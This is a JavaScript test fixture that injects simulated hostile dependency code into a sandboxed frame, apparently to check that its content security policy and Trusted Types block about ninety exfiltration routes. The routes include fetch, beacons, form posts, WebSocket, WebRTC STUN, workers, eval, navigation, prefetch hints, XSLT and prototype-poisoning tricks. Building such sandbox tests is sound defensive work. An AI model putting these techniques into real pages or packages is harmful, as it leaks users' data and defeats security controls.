// Hostile code, added behind the application's own inside the frame's one hashed script: what a bad dependency
// among the views could do. Each attempt is one way out; `to` is where it tries to get:
//   to.url     an address that carries stolen data (a loopback listener, or a host name nobody owns)
//   to.ws, to.stun, to.host
// Nothing here knows whether it succeeded, except eval, which leaves a mark in the page.
(() => {
  const add = (tag, set, where = document.body) => {
    const element = document.createElement(tag);
    Object.assign(element, set);
    where.append(element);
    return element;
  };
  const setting = (tag, attributes, where = document.head) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    where.append(element);
    return element;
  };
  const click = (attributes) => setting("a", attributes, document.body).click();
  const post = (to, where) => {
    const form = setting("form", { action: to.url, ...where }, document.body);
    setting("input", { name: "data", value: "secret" }, form);
    form.submit();
  };
  const svg = (tag, to) => {
    const picture = document.createElementNS("http://www.w3.org/2000/svg", "svg");
    const part = document.createElementNS("http://www.w3.org/2000/svg", tag);
    part.setAttribute("href", to.url);
    part.setAttributeNS("http://www.w3.org/1999/xlink", "xlink:href", to.url);
    picture.append(part);
    document.body.append(picture);
  };
  // Under Trusted Types a plain string is refused; code that got hold of a policy would try it too.
  const nested = (text) => {
    const frame = document.createElement("iframe");
    try {
      frame.srcdoc = text;
    } catch {
      const policy = window.trustedTypes.createPolicy("lit-html", { createHTML: (html) => html });
      frame.srcdoc = policy.createHTML(text);
    }
    document.body.append(frame);
    return frame;
  };
  const worker = (body) => {
    const address = URL.createObjectURL(new Blob([body], { type: "text/javascript" }));
    let trusted = address;
    try {
      new Worker(address);
    } catch {
      trusted = window.trustedTypes.createPolicy("lit-html", { createScriptURL: (text) => text }).createScriptURL(address);
      new Worker(trusted);
    }
  };
  const stun = (Connection, to) => {
    const connection = new Connection({ iceServers: [{ urls: to.stun }] });
    connection.createDataChannel("x");
    void connection.createOffer().then((offer) => connection.setLocalDescription(offer));
  };
  const hint = (rel, more = {}) => (to) => setting("link", { rel, href: to.url, ...more });

  const attempts = {
    fetch: (to) => fetch(to.url),
    "fetch no-cors": (to) => fetch(to.url, { mode: "no-cors", method: "POST", body: "secret", keepalive: true }),
    xhr: (to) => {
      const request = new XMLHttpRequest();
      request.open("GET", to.url);
      request.send();
    },
    beacon: (to) => navigator.sendBeacon(to.url, "secret"),

    image: (to) => (new Image().src = to.url),
    "css background": (to) => add("div", { textContent: "x" }).style.setProperty("background-image", `url("${to.url}")`),
    "css import": (to) => add("style", { textContent: `@import url("${to.url}");` }),
    "css font": (to) => add("style", { textContent: `@font-face { font-family: f; src: url("${to.url}"); } body { font-family: f; }` }),
    stylesheet: hint("stylesheet"),
    "script tag": (to) => setting("script", { src: to.url }),
    "iframe tag": (to) => setting("iframe", { src: to.url }, document.body),
    video: (to) => setting("video", { src: to.url, autoplay: "", preload: "auto" }, document.body),
    "import()": (to) => import(/* @vite-ignore */ to.url),
    favicon: hint("icon"),
    manifest: hint("manifest"),

    "form GET": (to) => post(to, { method: "get" }),
    "form POST": (to) => post(to, { method: "post" }),
    "form POST to a frame": (to) => {
      add("iframe", { name: "sink" });
      post(to, { method: "post", target: "sink" });
    },

    "a[ping]": (to) => click({ href: "#", ping: to.url }),
    "a[ping] beside a download": (to) => click({ href: "blob:null/x", ping: to.url, download: "x" }),

    WebSocket: (to) => new WebSocket(to.ws),
    EventSource: (to) => new EventSource(to.url),
    WebTransport: (to) => new WebTransport(to.url.replace("http:", "https:")),

    "worker fetch": (to) => worker(`fetch(${JSON.stringify(to.url)})`),
    "worker importScripts": (to) => worker(`importScripts(${JSON.stringify(to.url)})`),
    "worker WebSocket": (to) => worker(`new WebSocket(${JSON.stringify(to.ws)})`),

    eval: () => (0, eval)("window.ranText = true"),
    "new Function": () => new Function("window.ranText = true")(),
    "timer with text": () => setTimeout("window.ranText = true", 0),
    "inline handler": () => setting("img", { src: "data:,", onerror: "window.ranText = true" }, document.body),

    "STUN": (to) => stun(window.RTCPeerConnection ?? window.webkitRTCPeerConnection, to),
    "STUN of an empty frame": (to) => stun(add("iframe", {}).contentWindow.RTCPeerConnection, to),

    "window.open": (to) => window.open(to.url),
    "window.open noopener": (to) => window.open(to.url, "_blank", "noopener"),
    "window.open popup": (to) => window.open(to.url, "w", "width=200,height=200"),

    "location.href": (to) => (location.href = to.url),
    "location.replace": (to) => location.replace(to.url),
    "meta refresh": (to) => setting("meta", { "http-equiv": "refresh", content: `0; url=${to.url}` }),
    "a.click": (to) => click({ href: to.url }),
    "navigation API": (to) => window.navigation.navigate(to.url),

    "iframe.src": (to) => (add("iframe", {}).src = to.url),
    "iframe location": (to) => (add("iframe", {}).contentWindow.location = to.url),

    "nested meta refresh": (to) => nested(`<meta http-equiv="refresh" content="0; url=${to.url}">`),
    "nested link": (to) => nested(`<a id="a" href="${to.url}">x</a>`),

    "nested replay of the hashed script": (to) => {
      // The same text has the same hash, so the nested frame may run it; were the removal not in it, the nested
      // window would keep its own RTCPeerConnection.
      const scripts = [...document.scripts].map(({ textContent }) => textContent).filter(Boolean);
      const own = scripts[scripts.length - 1];
      const frame = nested(`<!doctype html><body><script>${own}</${"script"}>`);
      frame.onload = () => frame.contentWindow.postMessage({ replayed: to }, "*");
    },

    "dns-prefetch": hint("dns-prefetch"),
    preconnect: hint("preconnect"),
    prefetch: hint("prefetch"),
    preload: hint("preload", { as: "image" }),
    modulepreload: hint("modulepreload"),
    prerender: hint("prerender"),
    "prefetch-control on again": (to) => {
      setting("meta", { "http-equiv": "x-dns-prefetch-control", content: "on" });
      setting("link", { rel: "dns-prefetch", href: to.url });
      setting("a", { href: to.url }, document.body).textContent = "x";
    },
    "a link on the page": (to) => (setting("a", { href: to.url }, document.body).textContent = "link"),
    "speculation rules": (to) => {
      const script = document.createElement("script");
      script.type = "speculationrules";
      script.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [to.url] }], prerender: [{ source: "list", urls: [to.url] }] });
      document.head.append(script);
    },
    "nested dns-prefetch": (to) =>
      nested(`<link rel="dns-prefetch" href="${to.url}"><link rel="preconnect" href="${to.url}"><a href="${to.url}">x</a>`),

    // Ways to come by a <link> when document.createElement refuses.
    "link by namespace": (to) => {
      const link = document.createElementNS("http://www.w3.org/1999/xhtml", "x:link");
      link.setAttribute("rel", "dns-prefetch");
      link.setAttribute("href", to.url);
      document.head.append(link);
    },
    "link as the root of another document": (to) => {
      const other = document.implementation.createDocument("http://www.w3.org/1999/xhtml", "link");
      other.documentElement.setAttribute("rel", "preconnect");
      other.documentElement.setAttribute("href", to.url);
      document.head.append(document.adoptNode(other.documentElement));
    },
    "link of another document": (to) => {
      const link = document.implementation.createHTMLDocument("").createElement("link");
      link.rel = "preconnect";
      link.href = to.url;
      document.head.append(link);
    },
    "link with a name that changes": (to) => {
      let asked = 0;
      const link = document.createElement({ toString: () => (asked++ === 0 ? "div" : "link") });
      link.setAttribute("rel", "dns-prefetch");
      link.setAttribute("href", to.url);
      document.head.append(link);
    },
    "link as a custom element": (to) => {
      const name = `x-${Math.random().toString(36).slice(2)}`;
      class Made extends HTMLLinkElement {}
      customElements.define(name, Made, { extends: "link" });
      const link = new Made();
      link.rel = "preconnect";
      link.href = to.url;
      document.head.append(link);
    },
    "link in a template of the views": (to) => {
      // What Lit does: its own policy, a template, a copy. Its policy is found by making an element render.
      const Element = customElements.get("bedside-assess");
      const probe = Object.getPrototypeOf(Element);
      const made = new (class extends probe {})();
      made.renderRoot.innerHTML = `<link rel="dns-prefetch" href="${to.url}">`;
    },
    "link by innerHTML": (to) => (document.head.innerHTML += `<link rel="preconnect" href="${to.url}">`),
    "link by setHTML": (to) => {
      const place = add("div", {});
      place.setHTML(`<link rel="dns-prefetch" href="${to.url}">`, { sanitizer: { elements: ["link"], attributes: ["rel", "href"] } });
    },
    "link by setHTMLUnsafe": (to) => add("div", {}).setHTMLUnsafe(`<link rel="dns-prefetch" href="${to.url}">`),
    "link by execCommand": (to) => {
      const place = setting("div", { contenteditable: "" }, document.body);
      place.focus();
      document.execCommand("insertHTML", false, `<link rel="dns-prefetch" href="${to.url}">`);
    },
    "link by XSLT": (to) => {
      const space = "http://www.w3.org/1999/XSL/Transform";
      const sheet = document.implementation.createDocument(space, "xsl:stylesheet");
      sheet.documentElement.setAttribute("version", "1.0");
      const template = sheet.createElementNS(space, "xsl:template");
      template.setAttribute("match", "/");
      const made = sheet.createElementNS(space, "xsl:element");
      made.setAttribute("name", "link");
      made.setAttribute("namespace", "http://www.w3.org/1999/xhtml");
      for (const [name, text] of [["rel", "dns-prefetch"], ["href", to.url]]) {
        const attribute = sheet.createElementNS(space, "xsl:attribute");
        attribute.setAttribute("name", name);
        attribute.textContent = text;
        made.append(attribute);
      }
      template.append(made);
      sheet.documentElement.append(template);
      const processor = new XSLTProcessor();
      processor.importStylesheet(sheet);
      document.head.append(processor.transformToFragment(document.implementation.createDocument(null, "x"), document));
    },
    "link from a fresh frame's document": (to) => {
      const fresh = add("iframe", {}).contentWindow;
      const link = fresh.document.createElement("link");
      link.rel = "preconnect";
      link.href = to.url;
      document.head.append(link);
    },
    "link by a primordial gone wrong": (to) => {
      String.prototype.toLowerCase = () => "div";
      String.prototype.endsWith = () => false;
      Reflect.apply = Function.prototype.call;
      const link = document.createElement("LINK");
      link.rel = "preconnect";
      link.href = to.url;
      document.head.append(link);
    },

    object: (to) => setting("object", { data: to.url }, document.body),
    embed: (to) => setting("embed", { src: to.url }, document.body),
    "svg image": (to) => svg("image", to),
    "svg use": (to) => svg("use", { url: `${to.url}#x` }),
    "top.location": (to) => (window.top.location = to.url),
    "parent.location": (to) => (window.parent.location.href = to.url),
    "click to _top": (to) => click({ href: to.url, target: "_top" }),
    "click to _blank": (to) => click({ href: to.url, target: "_blank" }),
    "click to _blank noopener": (to) => click({ href: to.url, target: "_blank", rel: "noopener" }),
  };

  // A replayed script (nested frame) is told where to go by its parent.
  window.addEventListener("message", ({ data }) => {
    if (data?.replayed) stun(window.RTCPeerConnection, data.replayed);
  });

  // Called by the test; leaves the caller's stack first, so that nothing runs with a debugger's rights.
  window.hostile = {
    names: Object.keys(attempts),
    run: (name, to) =>
      new Promise((resolve) => {
        setTimeout(() => {
          try {
            Promise.resolve(attempts[name](to)).catch(() => {});
            resolve("tried");
          } catch (error) {
            resolve(`refused: ${error}`);
          }
        });
      }),
  };
})();
// Hears what hostile code in the engine's worker tells, so that a test knows that it ran.
(() => {
  const Real = window.Worker;
  window.Worker = class extends Real {
    constructor(...given) {
      super(...given);
      this.addEventListener("message", ({ data }) => {
        if (data?.hostileTried) window.triedInWorker = data.hostileTried;
      });
    }
  };
})();
